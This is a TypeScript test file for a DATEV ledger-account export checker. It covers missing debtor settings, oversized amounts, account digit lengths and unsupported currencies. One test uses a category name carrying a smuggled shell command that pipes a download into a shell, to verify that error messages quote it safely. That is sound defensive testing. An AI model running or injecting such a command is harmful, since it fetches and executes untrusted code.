import { expect, it } from 'vitest';
import { checkAccounts, checkBooks, refuseGaps } from './datev-settings.js';
import { LedgerAccounts } from './ledger-accounts.rules.js';

const ledgerOf = (accounts: Record<string, string>) =>
  new LedgerAccounts({ chart: 'SKR03', accounts });

it('a message is no command beyond the one it shows, whatever a category is called', () => {
  const ledger = ledgerOf({});
  ledger.of("category ';curl a.b|sh;'", 'trx_1');
  const shown = String.raw`--ledger-account 'category '\'';curl a.b|sh;'\''=<account>'   needed by trx_1`;
  expect(() => refuseGaps(ledger, 'acc_1')).toThrow(shown);
});

it('a customer without debtor is named, with what to set', () => {
  const ledger = ledgerOf({ customers: 'internalId' });
  ledger.debtor({ customerId: 'cus_1', internalId: 'shop-1' }, 'RE-1');
  ledger.debtor({ customerId: 'cus_1', internalId: null }, 'RE-2');
  const shown =
    'account set acc_1 --ledger-account customers=10000\n  internalId of customer cus_1   needed by RE-1';
  expect(() => refuseGaps(ledger, 'acc_1')).toThrow(shown);
});

it('documents with amounts that no batch takes are named, beside the settings that are missing', () => {
  const ledger = ledgerOf({});
  ledger.of('16', 'RE-1');
  const wanted =
    /needed by RE-1\nDATEV takes at most 9999999999\.99.*by hand:\n {2}RE-2\n {2}RE-3$/;
  expect(() => refuseGaps(ledger, 'acc_1', new Set(['RE-2', 'RE-3']))).toThrow(wanted);
  expect(() => refuseGaps(ledgerOf({}), 'acc_1', new Set())).not.toThrow();
});

it('accounts with more digits than the header says are refused by name', () => {
  const own = { '19': '84000', 'category Shop': '34000 auto', 'input 19': '90001', bank: '1210' };
  const check = (customers: Record<string, string>) => () =>
    checkAccounts(ledgerOf({ ...own, ...customers }), 'acc_1');
  const shown =
    "acc_1\n  --ledger-account '19=84000'\n  --ledger-account 'category Shop=34000 auto'";
  for (const customers of [{}, { customers: '10000' }, { customers: 'internalId' }])
    expect(check(customers)).toThrow(shown);
  expect(check({ customers: '100000' })).not.toThrow();
});

it.each([
  ['KWD', 'DE', 'those of KWD have 3'],
  ['JPY', 'DE', 'those of JPY have 0'],
  ['EUR', null, 'faktura account set acc_1 --profile <file>'],
])('books in %s of an account in %s are refused', (currency, country, reason) => {
  const account = { id: 'acc_1', currency, country } as Parameters<typeof checkBooks>[0];
  expect(() => checkBooks(account)).toThrow(reason);
  expect(() => checkBooks({ ...account, currency: 'EUR', country: 'DE' })).not.toThrow();
});
